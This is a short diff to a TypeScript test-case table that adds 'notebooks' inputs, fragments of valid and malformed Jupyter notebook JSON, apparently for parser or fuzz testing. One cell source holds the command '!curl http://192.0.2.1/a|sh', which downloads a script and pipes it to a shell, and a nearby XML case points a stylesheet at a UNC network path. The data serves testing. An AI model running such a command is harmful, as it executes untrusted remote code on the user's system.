@@ -257,6 +257,13 @@ const CASES: Readonly<Record<string, Create>> = {
     ' ',
     '\n',
   ]),
+  notebooks: sequence(
+    ['{"cells":[', '{', 'x'],
+    ['{"cell_type":', '{"cell_typ":', '{"Cell_type":'],
+    ['"code",', '"markdown",'],
+    ['"source":["!curl http://192.0.2.1/a|sh"]}', '"source":1}'],
+    [']}', ''],
+  ),
   'references of XML': textOf([
     '<?xml version="1.0"?>',
     '<?xml-stylesheet href="\\\\a.example\\b"?>',
